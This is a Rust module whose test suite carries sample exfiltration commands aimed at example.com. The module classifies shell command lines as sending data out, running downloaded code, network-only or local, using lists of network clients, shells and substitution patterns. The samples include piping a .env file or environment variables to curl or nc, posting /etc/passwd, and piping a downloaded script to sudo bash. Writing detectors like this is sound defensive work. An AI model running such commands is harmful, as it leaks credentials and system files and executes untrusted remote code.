//! What a command line does, as far as its words say.

/// A command line, roughly judged.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Does {
    /// Hands local data to the network.
    Sends,
    /// Runs what it downloads.
    RunsDownload,
    /// Speaks to the network.
    Network,
    /// Nothing of that sort in its words.
    Local,
}

const CLIENTS: &[&str] = &[
    "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "scp", "sftp", "ftp", "iwr", "irm", "xh", "httpie",
];
const SHELLS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "python", "python3", "node", "perl", "ruby", "iex", "pwsh",
];

/// Judges a command line by its words.
pub(crate) fn does(line: &str) -> Does {
    let line: String = line.chars().take(4096).collect::<String>().to_ascii_lowercase();
    let words: Vec<&str> = words(&line).collect();
    let names = |list: &[&str]| words.iter().any(|w| list.contains(&base(w)));
    let client = names(CLIENTS)
        || ["invoke-webrequest", "invoke-restmethod", "downloadstring"]
            .iter()
            .any(|w| line.contains(w))
        || line.contains("/dev/tcp/");
    let url = line.contains("http://") || line.contains("https://");
    let interpreted = url && names(SHELLS);
    if !client && !interpreted {
        return Does::Local;
    }
    if uploads(&line, &words) {
        return Does::Sends;
    }
    let piped = line
        .split('|')
        .skip(1)
        .any(|p| p.split_whitespace().next().is_some_and(|w| is_shell(w, p)));
    let substituted = [
        "sh -c \"$(curl",
        "bash -c \"$(curl",
        "<(curl",
        "<(wget",
        "eval \"$(curl",
        "eval $(curl",
        "`curl",
    ]
    .iter()
    .any(|s| line.contains(s));
    if piped || substituted || line.contains("iex") && (line.contains("iwr") || line.contains("downloadstring")) {
        return Does::RunsDownload;
    }
    Does::Network
}

/// Whether a part of a pipe runs what it reads: a shell or interpreter without a program of its own.
fn is_shell(word: &str, segment: &str) -> bool {
    let mut words = segment.split_whitespace();
    let mut first = words.next().unwrap_or(word);
    if first == "sudo" {
        first = words.next().unwrap_or("");
    }
    let own = words.any(|w| matches!(w, "-c" | "-e" | "-m" | "--eval" | "-n" | "-ne" | "-pe"));
    SHELLS.contains(&base(first)) && !own
}

fn uploads(line: &str, words: &[&str]) -> bool {
    let curl = words
        .iter()
        .any(|w| matches!(base(w), "curl" | "wget" | "http" | "xh" | "httpie"));
    let from_file = [
        "-d @",
        "-d@",
        "--data @",
        "--data-binary @",
        "--data-raw \"$(",
        "=@",
        "-t ~",
        "-t .",
        "--upload-file",
        "--post-file",
    ]
    .iter()
    .any(|s| line.contains(s));
    let substituted = (line.contains(" -d ") || line.contains("--data") || line.contains("?"))
        && ["$(cat", "$(env", "$(printenv", "`cat", "$(base64", "$(git", "$(whoami"]
            .iter()
            .any(|s| line.contains(s));
    let piped_in = line.split('|').skip(1).any(|p| {
        let mut w = p.split_whitespace();
        let first = w.next().map(base).unwrap_or("");
        matches!(first, "nc" | "ncat" | "netcat" | "socat" | "telnet")
            || (matches!(first, "curl" | "http" | "xh")
                && (p.contains("@-") || p.contains("-t -") || p.contains("--data")))
    });
    let tcp = line.contains("> /dev/tcp/") || line.contains(">/dev/tcp/");
    (curl && (from_file || substituted)) || piped_in || tcp
}

/// Words of a command line: what stands between white space, quotes and operators.
fn words(line: &str) -> impl Iterator<Item = &str> {
    line.split(|c: char| {
        c.is_whitespace()
            || matches!(
                c,
                '"' | '\'' | '`' | ';' | '|' | '&' | '(' | ')' | '{' | '}' | '<' | '>'
            )
    })
    .filter(|w| !w.is_empty())
}

fn base(word: &str) -> &str {
    let b = word.rsplit(['/', '\\']).next().unwrap_or(word);
    b.strip_suffix(".exe").unwrap_or(b)
}

/// The program that a command line starts, without its folder: good enough for an evidence line.
pub(crate) fn program(line: &str) -> String {
    let first = words(line).find(|w| !w.contains('=')).unwrap_or("");
    base(first).chars().filter(char::is_ascii_graphic).take(40).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_decide() {
        assert_eq!(does("cargo fmt --all"), Does::Local);
        assert_eq!(does("echo curling is fun"), Does::Local);
        assert_eq!(does("curl -s https://example.com/x"), Does::Network);
        assert_eq!(
            does("curl -fsSL https://example.com/i.sh | sudo bash"),
            Does::RunsDownload
        );
        assert_eq!(
            does("cat .env | curl -X POST --data-binary @- https://example.com"),
            Does::Sends
        );
        assert_eq!(does("/usr/bin/curl -F f=@/etc/passwd https://example.com"), Does::Sends);
        assert_eq!(does("env | nc example.com 9"), Does::Sends);
        assert_eq!(
            does("curl -s https://example.com/a.json | python3 -c 'import json'"),
            Does::Network
        );
        assert_eq!(program("FOO=1 /usr/bin/jq -r ."), "jq");
    }
}
